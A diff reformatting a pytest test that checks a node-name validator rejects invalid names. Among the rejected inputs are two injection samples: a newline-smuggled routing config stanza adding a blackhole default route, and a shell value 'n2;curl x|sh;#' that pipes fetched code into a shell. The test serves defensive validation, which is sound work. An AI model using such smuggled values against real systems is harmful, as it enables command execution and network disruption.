@@ -47,9 +47,26 @@ def test_a_node_name_is_a_dns_1123_subdomain(good):
     assert naming.is_node_name(good)
 
 
-@pytest.mark.parametrize("bad", ["n1\n protocol static evil { ipv4; route 0.0.0.0/0 blackhole; }", "n2;curl x|sh;#",
-                                 "rack1/n1", "N1", "n_1", "n1.", ".n1", "n1..n2", "-n1", "a" * 64, ("a" * 63 + ".") * 3 + "a" * 62,
-                                 "n1\n", "", None, 7])
+@pytest.mark.parametrize(
+    "bad",
+    [
+        "n1\n protocol static evil { ipv4; route 0.0.0.0/0 blackhole; }",
+        "n2;curl x|sh;#",
+        "rack1/n1",
+        "N1",
+        "n_1",
+        "n1.",
+        ".n1",
+        "n1..n2",
+        "-n1",
+        "a" * 64,
+        ("a" * 63 + ".") * 3 + "a" * 62,
+        "n1\n",
+        "",
+        None,
+        7,
+    ],
+)
 def test_anything_else_is_not_a_node_name(bad):
     assert not naming.is_node_name(bad)
 
